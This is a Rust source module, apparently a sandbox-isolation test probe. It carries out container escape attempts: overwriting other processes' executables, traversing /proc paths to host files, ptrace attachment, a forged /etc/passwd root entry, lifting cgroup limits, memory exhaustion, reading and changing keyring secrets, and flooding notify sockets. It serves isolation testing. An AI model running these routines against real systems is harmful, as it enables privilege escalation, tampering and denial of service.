//! Ways that only Linux has.

use std::collections::BTreeSet;
use std::ffi::CString;
use std::fs;
use std::io::{self, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::os::unix::net::UnixDatagram;
use std::path::{Path, PathBuf};
use std::thread::sleep;
use std::time::{Duration, Instant};

use nix::libc;
use nix::unistd::{Gid, Uid};
use rustix::mount::{MountFlags, UnmountFlags, mount, unmount};

use super::{LONGEST, mark, wrong};
use crate::sys;

pub(super) fn run(verb: &str, words: &[String]) -> Option<io::Result<()>> {
    let argument = |at: usize| words.get(at).map_or("", String::as_str);
    Some(match verb {
        "loader" => loader(Path::new(argument(0))),
        "take" => take(false),
        "take-last" => take(true),
        "doors" => doors(argument(0), argument(1)),
        "lurk" => lurk(argument(0)),
        "own-files" => own_files(),
        "groups" => groups(),
        "eat" => eat(),
        "key-put" => sys::add_key(&name(argument(0)), argument(1).as_bytes(), sys::USER_RING).map(drop),
        "key-drop" => {
            sys::find_key(&name(argument(0)), sys::USER_RING).and_then(|key| sys::drop_key(key, sys::USER_RING))
        }
        "key-session" => key_session(argument(0), argument(1), words.get(2..).unwrap_or_default()),
        "key-take" => key_take(argument(0)),
        "notify" => notify(argument(0)),
        "unshare" => unshare(),
        _ => return None,
    })
}

fn name(text: &str) -> CString {
    CString::new(text).unwrap_or_default()
}

pub(super) fn facts() {
    for process in ["self", "1"] {
        let status = fs::read_to_string(format!("/proc/{process}/status")).unwrap_or_default();
        for line in status.lines().filter(|line| {
            ["CapPrm", "CapBnd", "CapEff", "NoNewPrivs", "Seccomp:"].iter().any(|key| line.starts_with(key))
        }) {
            println!("{process} {}", line.replace(['\t', ':'], " "));
        }
    }
}

/// A program that loads others: it opens the program that it is to load, and becomes the probe, which overwrites it.
fn loader(at: &Path) -> io::Result<()> {
    const HEADERS: u64 = 64 + 56;
    let Some(code) = sys::loader_code() else { wrong("no loader for this processor") };
    let size = HEADERS + code.len() as u64;
    let mut file = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0".to_vec();
    let halves = |file: &mut Vec<u8>, values: &[u16]| values.iter().for_each(|v| file.extend(v.to_le_bytes()));
    let words = |file: &mut Vec<u8>, values: &[u32]| values.iter().for_each(|v| file.extend(v.to_le_bytes()));
    let longs = |file: &mut Vec<u8>, values: &[u64]| values.iter().for_each(|v| file.extend(v.to_le_bytes()));
    // ET_DYN for EM_X86_64; begins behind the headers, of which there is one more.
    halves(&mut file, &[3, 62]);
    words(&mut file, &[1]);
    longs(&mut file, &[HEADERS, 64, 0]);
    words(&mut file, &[0]);
    halves(&mut file, &[64, 56, 1, 0, 0, 0]);
    // PT_LOAD of all of it, to be read and executed.
    words(&mut file, &[1, 5]);
    longs(&mut file, &[0, 0, 0, size, size, 4096]);
    file.extend(code);
    fs::write(at, file)?;
    fs::set_permissions(at, fs::Permissions::from_mode(0o755))
}

/// Overwrites every file that it finds open, as soon as nobody executes it: while whoever started it waits, and, by a
/// child, when that has ended.
fn take(last: bool) -> io::Result<()> {
    let own = fs::metadata("/proc/self/exe")?.ino();
    let found: Vec<PathBuf> = (3..64)
        .map(|number| PathBuf::from(format!("/proc/self/fd/{number}")))
        .filter(|path| fs::metadata(path).is_ok_and(|about| about.is_file() && about.ino() != own))
        .collect();
    if !last && !found.is_empty() {
        std::process::Command::new("/probe").args(["escape", "take-last"]).spawn()?;
    }
    let begun = Instant::now();
    while begun.elapsed() < if last { LONGEST / 20 } else { LONGEST / 60 } {
        if found.is_empty() || found.iter().any(mark) {
            break;
        }
        sleep(Duration::from_millis(5));
    }
    Ok(())
}

/// Tries to reach the file `victim` of the host's by whatever a process shows of itself.
fn doors(process: &str, victim: &str) -> io::Result<()> {
    let process = PathBuf::from("/proc").join(process);
    let mut ways: Vec<PathBuf> = ["root", "cwd", "exe"].iter().map(|door| process.join(door)).collect();
    ways.extend((0..64).map(|number| process.join(format!("fd/{number}"))));
    for way in ways {
        let through = format!("{}/../../../../../../../../../../../..{victim}", way.display());
        if mark(&through) || mark(format!("{}{victim}", way.display())) {
            println!("open: {}", way.display());
        }
    }
    for file in ["mem", "environ", "maps", "ns/mnt", "ns/pid", "map_files", "fdinfo"] {
        let path = process.join(file);
        let open = if file == "map_files" || file == "fdinfo" {
            fs::read_dir(&path)
                .and_then(|mut entries| entries.next().unwrap_or(Err(io::ErrorKind::NotFound.into())))
                .map(drop)
        } else {
            fs::File::open(&path).map(drop)
        };
        if open.is_ok() {
            println!("open: {}", path.display());
        }
    }
    let number = process.file_name().and_then(|name| name.to_str()).and_then(|name| name.parse().ok());
    if let Some(number) = number
        && sys::attach(number).is_ok()
    {
        println!("attached: {number}");
    }
    println!("tried");
    Ok(())
}

/// Waits for processes that come into the pod, looks through their doors, and overwrites what they execute once they are gone.
fn lurk(victim: &str) -> io::Result<()> {
    let own = fs::metadata("/proc/self/exe")?.ino();
    let mut held: Vec<fs::File> = Vec::new();
    let mut known = BTreeSet::new();
    let begun = Instant::now();
    println!("lurking");
    while begun.elapsed() < LONGEST / 3 {
        let Ok(entries) = fs::read_dir("/proc") else { continue };
        for process in entries.flatten().map(|entry| entry.path()) {
            if !process.join("exe").is_symlink() {
                continue;
            }
            if let Ok(program) = fs::File::open(process.join("exe"))
                && let Ok(about) = program.metadata()
                && about.ino() != own
                && known.insert(about.ino())
            {
                println!("seen: {}", process.display());
                held.push(program);
            }
            for door in ["root", "cwd"] {
                let through = format!("{}/{door}/../../../../../../../..{victim}", process.display());
                if fs::metadata(&through).is_ok() && mark(&through) {
                    println!("open: {}/{door}", process.display());
                }
            }
        }
        held.retain(|program| {
            let taken = mark(format!("/proc/self/fd/{}", program.as_raw_fd()));
            if taken {
                println!("taken");
            }
            !taken
        });
    }
    Ok(())
}

/// User and mount namespaces of its own.
fn own_namespaces(more: i32) -> io::Result<()> {
    let (uid, gid) = (Uid::current(), Gid::current());
    sys::unshare(libc::CLONE_NEWUSER | libc::CLONE_NEWNS | more)?;
    fs::write("/proc/self/setgroups", "deny")?;
    fs::write("/proc/self/uid_map", format!("0 {uid} 1"))?;
    fs::write("/proc/self/gid_map", format!("0 {gid} 1"))
}

/// Puts files of its own where whoever enters looks: an app's user that is root.
fn own_files() -> io::Result<()> {
    let done = own_namespaces(0).and_then(|()| {
        mount("none", "/etc", "tmpfs", MountFlags::empty(), None)?;
        fs::write("/etc/passwd", "app:x:0:0::/:/probe\n")?;
        fs::write("/etc/group", "app:x:0:\n")?;
        fs::write("/etc/mark", "forged")
    });
    match done {
        Ok(()) => println!("own files"),
        Err(error) => println!("no own files: {error}"),
    }
    sleep(LONGEST);
    Ok(())
}

/// Whether a new user namespace can be had.
fn unshare() -> io::Result<()> {
    match own_namespaces(0) {
        Ok(()) => println!("a user namespace of its own"),
        Err(error) => println!("none: {error}"),
    }
    Ok(())
}

/// Tries to change control groups: those in sight, then those that a mount of its own shows.
fn groups() -> io::Result<()> {
    print!("{}", fs::read_to_string("/proc/self/cgroup").unwrap_or_default());
    change_groups(Path::new("/sys/fs/cgroup"), 3);
    if let Err(error) = own_namespaces(libc::CLONE_NEWCGROUP) {
        println!("no namespaces: {error}");
        // With the capability none is needed.
        if let Err(error) = sys::unshare(libc::CLONE_NEWNS) {
            println!("no mount namespace: {error}");
        }
    }
    let place = Path::new("/proc");
    let kinds = [("cgroup2", ""), ("cgroup", "pids"), ("cgroup", "memory"), ("cgroup", "cpu"), ("cgroup", "devices")];
    let kinds = kinds.iter().chain(&[("cgroup", "freezer"), ("cgroup", "cpuset")]);
    let kinds = kinds.map(|(kind, option)| (*kind, CString::new(*option).unwrap_or_default()));
    for (kind, option) in kinds {
        match mount("none", place, kind, MountFlags::empty(), Some(option.as_c_str())) {
            Ok(()) => {
                println!("mounted: {kind} {}", option.to_string_lossy());
                change_groups(place, 2);
                let _ = unmount(place, UnmountFlags::DETACH);
            }
            Err(error) => println!("not mounted: {kind} {}: {error}", option.to_string_lossy()),
        }
    }
    // Whether there still is a limit shows in what it stops.
    let child = std::process::Command::new("/probe").args(["escape", "eat"]).status()?;
    println!("{}", if child.success() { "no limit holds" } else { "limited" });
    Ok(())
}

/// Takes twice as much memory as the pod may.
fn eat() -> io::Result<()> {
    let mut memory = vec![0_u8; 128 << 20];
    memory.iter_mut().step_by(4096).for_each(|byte| *byte = 1);
    println!("eaten: {}", std::hint::black_box(&memory).len());
    Ok(())
}

/// Lifts the limits of all groups that this process is in, and looks whether those of others could be changed: what is
/// written there is what stands there.
fn change_groups(at: &Path, depth: u32) {
    const LIMITS: [(&str, &str); 5] = [
        ("memory.max", "max"),
        ("memory.memsw.limit_in_bytes", "-1"),
        ("memory.limit_in_bytes", "-1"),
        ("pids.max", "max"),
        ("cpu.max", "max"),
    ];
    let own = holds_own(at, depth);
    for (name, most) in LIMITS {
        let path = at.join(name);
        let Ok(now) = fs::read_to_string(&path) else { continue };
        let value = if own { most } else { now.trim() };
        if fs::OpenOptions::new().write(true).open(&path).and_then(|mut file| file.write_all(value.as_bytes())).is_ok()
        {
            println!("{}: {}", if own { "lifted" } else { "changed" }, path.display());
        }
    }
    if own && fs::write(at.join("cgroup.procs"), "0").is_ok() {
        println!("moved to: {}", at.display());
    }
    for path in directories(at).filter(|_| depth > 0) {
        change_groups(&path, depth - 1);
    }
}

fn directories(at: &Path) -> impl Iterator<Item = PathBuf> {
    let entries = fs::read_dir(at).into_iter().flatten().flatten().map(|entry| entry.path());
    entries.filter(|path| path.is_dir() && !path.is_symlink())
}

/// Whether this process is in a group or in one below it.
fn holds_own(at: &Path, depth: u32) -> bool {
    let own = std::process::id().to_string();
    fs::read_to_string(at.join("cgroup.procs")).is_ok_and(|listed| listed.lines().any(|line| line == own))
        || (depth > 0 && directories(at).any(|path| holds_own(&path, depth - 1)))
}

/// Becomes a program whose session's keyring holds a key.
fn key_session(key: &str, secret: &str, program: &[String]) -> io::Result<()> {
    use std::os::unix::process::CommandExt;
    let [program, arguments @ ..] = program else { wrong("key-session NAME SECRET PROGRAM...") };
    sys::new_session_ring()?;
    sys::add_key(&name(key), secret.as_bytes(), sys::SESSION_RING)?;
    Err(std::process::Command::new(program).args(arguments).exec())
}

/// Looks for a key of the host's in all keyrings that a process has by itself, reads and changes it.
fn key_take(key: &str) -> io::Result<()> {
    for (ring, about) in [(sys::SESSION_RING, "session"), (sys::USER_RING, "user"), (-5, "user session")] {
        match sys::find_key(&name(key), ring).and_then(sys::read_key) {
            Ok(secret) => println!("read: {about}: {}", String::from_utf8_lossy(&secret)),
            Err(error) => println!("not read: {about}: {error}"),
        }
    }
    if fs::read_to_string("/proc/keys").is_ok_and(|keys| keys.contains(key)) {
        println!("listed: {key}");
    }
    match sys::add_key(&name(key), b"changed", sys::USER_RING) {
        Ok(_) => println!("changed: {key}"),
        Err(error) => println!("not changed: {error}"),
    }
    Ok(())
}

/// Tells every abstract socket with `part` in its name that an app is ready, and then a great deal more.
fn notify(part: &str) -> io::Result<()> {
    let listed = fs::read_to_string("/proc/net/unix")?;
    let names: BTreeSet<&str> =
        listed.lines().filter_map(|line| line.split(" @").nth(1)).filter(|name| name.contains(part)).collect();
    println!("sockets: {}", names.len());
    for name in names {
        use std::os::linux::net::SocketAddrExt;
        let address = std::os::unix::net::SocketAddr::from_abstract_name(name)?;
        let socket = UnixDatagram::unbound()?;
        match socket.send_to_addr(b"READY=1\nSTATUS=forged by another user", &address) {
            Ok(_) => println!("sent"),
            Err(error) => println!("not sent: {error}"),
        }
        socket.set_nonblocking(true)?;
        let begun = Instant::now();
        let long = format!("STATUS={}", "x".repeat(3000));
        while begun.elapsed() < Duration::from_secs(2) {
            let _ = socket.send_to_addr(long.as_bytes(), &address);
        }
    }
    Ok(())
}
